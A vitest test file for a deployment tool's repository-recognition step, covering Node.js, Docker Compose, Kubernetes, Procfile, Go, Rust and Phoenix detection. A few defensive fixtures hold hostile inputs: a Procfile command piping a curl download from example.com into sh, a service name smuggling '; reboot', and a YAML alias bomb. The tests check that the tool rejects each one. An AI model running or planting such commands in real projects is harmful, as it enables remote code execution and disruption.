// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Compose files and Dockerfiles have them
import { describe, expect, test } from 'vitest'
import { recognise } from '../../src/init/recognise.ts'
import { appOf, seen } from './drafted.ts'
import { type RepositoryKind, repositories } from './repositories.ts'

const kinds: Readonly<Partial<Record<RepositoryKind, string>>> = {
  node: 'Node.js',
  compose: 'Docker Compose',
  dockerfile: 'Dockerfile',
  units: 'systemd',
  laravel: 'Laravel',
  rails: 'Rails',
  django: 'Django',
  kamal: 'Kamal',
  capistrano: 'Capistrano',
  deployer: 'Deployer',
  spryker: 'Spryker',
  pages: 'MkDocs',
  go: 'Go',
  java: 'Spring Boot',
  procfile: 'Procfile',
  oneApp: 'Go',
  manifests: 'Kubernetes',
  kustomize: 'Kubernetes with Kustomize',
  swarm: 'Docker Swarm',
  ecs: 'Amazon ECS',
}

const workload = (kind: string, name: string, image: string, namespace = 'shop'): string =>
  `kind: ${kind}\nmetadata: { name: ${name}, namespace: ${namespace} }\nspec:\n  template:\n    spec:\n      containers: [{ name: ${name}, image: "${image}" }]\n`

describe('a repository is recognised by its files', () => {
  test.each(Object.entries(kinds))('%s: %s, with nothing missing', (kind, title) => {
    const { sketch } = appOf(repositories[kind as RepositoryKind])
    expect(sketch).toMatchObject({ title, missing: [] })
  })

  test('an app that a cluster runs, and a library: one sentence says what is missing', () => {
    expect(appOf(repositories.kubernetes).sketch.missing).toEqual([
      'k8s/deployment.yaml is there, so Kubernetes runs it: the kubectl command that takes this release to the cluster is missing.',
    ])
    expect(appOf(repositories.library).sketch.missing).toEqual([
      'package.json has no start script for production: the command that starts it is missing.',
    ])
  })

  test('several apps below the root: each folder is named, and a person chooses', () => {
    expect(recognise(seen(repositories.monorepo), { path: null, as: null })).toEqual({
      kind: 'several',
      folders: ['apps/api', 'apps/web'],
    })
    expect(appOf(repositories.monorepo, { path: 'apps/api' }).sketch.title).toBe('Node.js')
  })

  test('the only app below the root is taken from there', () => {
    expect(appOf(repositories.oneApp).folder.path).toBe('backend')
  })

  test('the kinds that would fit too are named, and one of them can be asked for', () => {
    expect(appOf(repositories.kamal).others).toEqual(['dockerfile', 'rails'])
    expect(appOf(repositories.kamal, { as: 'dockerfile' }).sketch.running.kind).toBe('container')
  })

  test('a guess that leaves nothing to a person is taken before one that does', () => {
    const unit = '[Service]\nExecStart=/usr/bin/shop\n\n[Install]\nWantedBy=multi-user.target\n'
    const app = appOf({ ...repositories.go, 'packaging/shop.service': unit })
    expect([app.word, app.sketch.missing, app.others]).toEqual(['go', [], ['systemd']])
    expect(appOf({ 'packaging/shop.service': unit }).word).toBe('systemd')
  })

  test.each(['/usr/bin/podman-compose -f compose.yaml up', 'docker run --rm acme/shop'])(
    'a unit that starts containers runs no file of the release: %s',
    (start) => {
      const unit = `[Service]\nWorkingDirectory=/opt/shop\nExecStart=${start}\n`
      expect(appOf({ ...repositories.go, 'podman/shop.service': unit })).toMatchObject({
        word: 'go',
        others: [],
      })
    },
  )

  test("two folders that deploy one image in two ways: that of the repository's name is taken", () => {
    const image = 'ghcr.io/acme/shop:1.0.0'
    const { sketch } = appOf({
      'deploy/bases/backend/deployment.yaml': workload('Deployment', 'backend', image),
      'kustomize/kustomization.yaml': 'resources: [deployment.yaml]\n',
      'kustomize/deployment.yaml': workload('Deployment', 'shop', image),
      'manifests/mail.yaml': workload('Deployment', 'mail', 'ghcr.io/acme/mail:1.0.0'),
      'k8s/dns.yaml': workload('DaemonSet', 'dns', 'quay.io/acme/dns:1.0.0', 'kube-system'),
      Dockerfile: 'FROM scratch\nENTRYPOINT ["/server"]\n',
    })
    expect(sketch.because).toBe(
      'kustomize/deployment.yaml, and not by deploy, another way to deploy the same',
    )
    expect(sketch.running.kind === 'engine' && sketch.running.services.map(({ name }) => name)).toEqual([
      'shop',
      'mail',
    ])
  })

  test('a Compose file whose own images are made elsewhere, beside one that it builds: one sentence names the image', () => {
    const { sketch } = appOf({
      'docker-compose.yml':
        'services:\n  api:\n    image: acme/shop-api\n  graphs:\n    build: ./docker/graphs\n',
      'shop-api/pom.xml': '<project/>',
      'docker/graphs/Dockerfile': 'FROM grafana/grafana:12\n',
    })
    expect(sketch.missing).toEqual([
      'No image in docker-compose.yml is told the release (api is always the same): write image: acme/shop-api:${TAG} for the one that you build, and run rollgate init again.',
    ])
  })

  test.each([
    ['COPY target/*.jar app.jar', 'target/*.jar'],
    ['ARG JAR=build/libs/shop.jar\nCOPY ${JAR} app.jar', '${JAR}'],
    ['ARG NAME\nCOPY ${NAME}.jar app.jar', '${NAME}.jar'],
    ['COPY $TARGETPLATFORM/shop_*.apk /tmp/', '$TARGETPLATFORM/shop_*.apk'],
    ['COPY --chown=1 dist ./dist', 'dist'],
    ['COPY . .', null],
    ['COPY src/ ./src/', null],
    ['COPY package*.json ./', null],
    ['COPY --from=build /app/target/app.jar .', null],
    ['ADD https://example.com/tool /tool', null],
    ['COPY src/server.js \\\n  package.json ./', null],
  ])('a Dockerfile with %j: what it copies is there, or one sentence names it', (lines, absent) => {
    const { sketch } = appOf({
      Dockerfile: `FROM scratch\n${lines}\nCMD ["/app"]\n`,
      'src/server.js': '',
      'package.json': '{}',
    })
    expect([sketch.title, sketch.missing]).toEqual([
      'Dockerfile',
      absent === null
        ? []
        : [
            `Dockerfile copies ${absent}, which is not in the repository: the command that makes it before docker build is missing.`,
          ],
    ])
  })

  test('a Maven project that only lists its modules is none of them', () => {
    const root = '<project><packaging>pom</packaging><parent>spring-boot-starter-parent</parent></project>'
    const module = '<project>spring-boot-starter-web</project>'
    expect(
      recognise(seen({ 'pom.xml': root, 'api/pom.xml': module, 'web/pom.xml': module }), {
        path: null,
        as: null,
      }),
    ).toEqual({ kind: 'several', folders: ['api', 'web'] })
  })

  test('an empty repository has no app', () => {
    expect(recognise(seen({}), { path: null, as: null })).toEqual({ kind: 'empty' })
  })
})

describe('Docker Compose', () => {
  const compose = (text: string, more: Readonly<Record<string, string>> = {}) =>
    appOf({ 'compose.yaml': text, ...more })

  test('a file for developers, which mounts the sources, is passed over', () => {
    const text = 'services:\n  web:\n    build: .\n    volumes: [".:/app"]\n'
    expect(compose(text, { Dockerfile: 'FROM node\nCMD ["node"]\n' }).word).toBe('dockerfile')
  })

  test.each(['./vote', '{ context: ./vote/ }'])(
    'so is one that mounts the folder of one image of several: %s',
    (build) => {
      const text = `services:\n  vote:\n    build: ${build}\n    volumes: ["./vote:/app"]\n  worker:\n    build: ./worker\n`
      expect(compose(text).word).toBe('unknown')
      expect(compose(text.replace('./vote:/app', './pages:/app')).word).toBe('compose')
    },
  )

  test('services without a build are not the app; a file for production is laid over the base', () => {
    const app = compose('services:\n  web:\n    build: .\n  db:\n    image: postgres\n', {
      'compose.prod.yaml': 'services:\n  web:\n    restart: always\n',
    })
    expect(app.sketch.running).toEqual({
      kind: 'compose',
      files: ['compose.yaml', 'compose.prod.yaml'],
      services: ['web'],
      tags: [],
    })
  })

  test('a file for production that says everything stands alone', () => {
    const app = compose('services:\n  db:\n    image: postgres\n', {
      'docker-compose.prod.yml': 'services:\n  web:\n    image: acme/web:$TAG\n',
    })
    expect(app.sketch.running).toMatchObject({ files: ['docker-compose.prod.yml'], services: ['web'] })
  })

  test.each([
    ['acme/web:${TAG}', ['TAG']],
    ['acme/web:$TAG', ['TAG']],
    ['ghcr.io/acme/web:${WEB_VERSION:-latest}', ['WEB_VERSION']],
    ['localhost:5000/web:${TAG:?no release}', ['TAG']],
    ['${REGISTRY:-ghcr.io}/acme/web:${TAG}-alpine', ['TAG']],
  ])('an image that takes the release as its tag is the app: %s', (image, tags) => {
    const app = compose(`services:\n  web:\n    image: "${image}"\n  db:\n    image: "postgres:\${PG:-17}"\n`)
    expect(app.sketch.running).toMatchObject({ kind: 'compose', services: ['web'], tags })
  })

  test.each(['acme/web', 'acme/web:1.2', 'acme/web:latest'])(
    '%s holds no release: the sentence names the line',
    (image) => {
      const { sketch } = compose(`services:\n  db:\n    image: postgres\n  web:\n    image: ${image}\n`)
      expect([sketch.running.kind, sketch.missing]).toEqual([
        'unknown',
        [
          'No image in compose.yaml is told the release (web is always the same): write image: acme/web:${TAG} for the one that you build, and run rollgate init again.',
        ],
      ])
    },
  )

  test('a database alone is no app', () => {
    const { sketch } = compose('services:\n  db:\n    image: postgres\n')
    expect([sketch.title, sketch.because]).toEqual(['nothing known was found', null])
  })

  test('names with blanks or quotes, a file of aliases without end, and one that is no YAML: passed over', () => {
    expect(compose('services:\n  "a; reboot":\n    build: .\n').word).toBe('unknown')
    const bomb = `a: &a [x,x,x,x,x,x,x,x,x]\n${[...'bcdefghi'].map((name, at) => `${name}: &${name} [${Array(9).fill(`*${'abcdefghi'[at]}`).join(',')}]`).join('\n')}\nservices: *i\n`
    expect(compose(bomb).word).toBe('unknown')
    expect(compose('services: [\n').word).toBe('unknown')
  })
})

describe('Node.js', () => {
  const node = (manifest: unknown, more: Readonly<Record<string, string>> = {}) =>
    appOf({ 'package.json': JSON.stringify(manifest), ...more }).sketch

  test.each([
    ['pnpm-lock.yaml', 'pnpm install --frozen-lockfile', 'pnpm run start'],
    ['yarn.lock', 'yarn install --frozen-lockfile', 'yarn run start'],
    ['bun.lock', 'bun install --frozen-lockfile', 'bun run start'],
    ['package-lock.json', 'npm ci --include=dev', 'npm run start'],
    ['README.md', 'npm install --include=dev', 'npm run start'],
  ])('%s: %s, then %s', (lock, install, start) => {
    const { build, running } = node({ scripts: { start: 'node .' } }, { [lock]: '' })
    expect([build[0], running]).toEqual([install, { kind: 'process', start }])
  })

  test.each([
    [{ start: 'nest start', 'start:prod': 'node dist/main' }, 'npm run start:prod'],
    [{ start: 'react-scripts start', build: 'react-scripts build' }, null],
    [{ start: 'nodemon server.js' }, null],
  ])('the script for production is taken: %j', (scripts, start) => {
    const { running } = node({ scripts })
    expect(running.kind === 'process' ? running.start : null).toBe(start)
  })

  test.each<[string, Readonly<Record<string, string>>, Readonly<Record<string, string>>, string]>([
    ['Prisma', {}, { 'prisma/schema.prisma': '' }, 'npx prisma migrate deploy'],
    ['Knex', {}, { 'knexfile.ts': '' }, 'npx knex migrate:latest'],
    ['a script', { 'db:migrate': 'node migrate.js' }, {}, 'npm run db:migrate'],
    ['Sequelize', {}, { '.sequelizerc': '' }, 'npx sequelize-cli db:migrate'],
  ])('a migration by %s', (_, scripts, more, command) => {
    expect(node({ scripts: { start: 'node .', ...scripts } }, more).migrate).toBe(command)
  })

  test('a script that asks a developer questions migrates nothing', () => {
    expect(node({ scripts: { start: 'node .', migrate: 'prisma migrate dev' } }).migrate).toBeNull()
  })
})

test('a Procfile says more than a guess, and a command with shell in it is left out', () => {
  const app = { Procfile: 'web: bundle exec puma -p $PORT\n', Gemfile: "gem 'rails'\n" }
  expect(appOf(app).sketch.running).toEqual({ kind: 'process', start: 'bundle exec puma -p $PORT' })
  const hostile = { Procfile: 'web: puma; curl http://example.com | sh\n', 'main.txt': '' }
  expect(appOf(hostile).word).toBe('unknown')
})

test('a Phoenix app is a release of its own, which migrates by the module that its generator writes', () => {
  const project = 'def project, do: [app: :shop, deps: [{:phoenix, "~> 1.8"}]]\n'
  const app = { 'mix.exs': project, 'assets/package.json': '{}' }
  expect(appOf(app).sketch).toMatchObject({
    running: { kind: 'process', start: 'PHX_SERVER=true _build/prod/rel/shop/bin/shop start' },
    build: ['mix deps.get --only prod', 'MIX_ENV=prod mix release --overwrite'],
    migrate: null,
  })
  const release = 'defmodule Shop.Release do\n  def migrate do\n  end\nend\n'
  expect(appOf({ ...app, 'lib/shop/release.ex': release }).sketch.migrate).toBe(
    "_build/prod/rel/shop/bin/shop eval 'Shop.Release.migrate()'",
  )
})

test('a Procfile with a process that watches sources is for developers', () => {
  const app = { ...repositories.django, Procfile: 'web: make run\nstyles: make watch-scss\n' }
  expect(appOf(app).sketch.because).toBe('manage.py')
})

test.each([
  ['web: shop', './.rollgate-server'],
  ['web: bin/shop -verbose', './.rollgate-server -verbose'],
  ['web: ./start.sh', './start.sh'],
])('a Procfile of a Go app calls the program by the name that it has elsewhere: %s', (Procfile, start) => {
  const app = { 'go.mod': 'module example.com/shop\n', 'main.go': 'package main\n', Procfile }
  expect(appOf(app).sketch.running).toEqual({ kind: 'process', start })
})

test.each([
  [{}, ['.goreleaser.yaml shows a program that its users install, and no EXPOSE, unit or Procfile tells']],
  [{ Dockerfile: 'FROM golang\nEXPOSE 8080\n' }, []],
  [{ 'deploy/shop.service': '[Service]\nExecStart=/usr/bin/shop\n' }, []],
  [{ 'main.go': 'package main\n\nfunc main() { http.ListenAndServe(":8080", nil) }\n' }, []],
])(
  'a Go program that its users install is taken for a server only where something tells that it serves: %j',
  (files, missing) => {
    const app = { 'go.mod': 'module example.com/tool\n', 'main.go': 'package main\n', '.goreleaser.yaml': '' }
    expect(appOf({ ...app, ...files }, { as: 'go' }).sketch.missing).toEqual(
      missing.map((one) => expect.stringContaining(one)),
    )
  },
)

test.each([
  ['clap = "4"\n', 'fn main() {}\n', 1],
  ['axum = "0.8"\n', 'fn main() {}\n', 0],
  ['tokio = { version = "1" }\n', 'fn main() {}\n', 0],
  ['clap = "4"\n', 'fn main() { let door = TcpListener::bind("0.0.0.0:80"); }\n', 0],
])('a Rust program with %j that does %j misses %i sentences', (dependencies, main, missing) => {
  const manifest = `[package]\nname = "tool"\nversion = "1.0.0"\n\n[dependencies]\n${dependencies}`
  const { sketch } = appOf({ 'Cargo.toml': manifest, 'src/main.rs': main })
  expect(sketch.missing).toHaveLength(missing)
  expect(sketch.running.kind).toBe(missing === 0 ? 'process' : 'unknown')
})

test('Capistrano without a variable for its branch: one sentence says what to add', () => {
  const files = { ...repositories.capistrano, 'config/deploy.rb': "set :branch, 'main'\n" }
  expect(appOf(files).sketch.missing).toEqual([
    expect.stringContaining("add set :branch, ENV.fetch('BRANCH'"),
  ])
})

test.each([
  [{ 'mix.exs': 'defmodule Shop do\n' }, 'mix.exs is there, without Phoenix'],
  [{ 'pom.xml': '<project/>\n' }, 'pom.xml is there, without Spring Boot, Quarkus or Micronaut'],
  [{ 'notes.txt': '' }, 'No file in this repository tells how it is started'],
])('nothing known: one sentence says what is missing', (files, what) => {
  expect(appOf(files).sketch.missing).toEqual([`${what}: the command that starts it is missing.`])
})
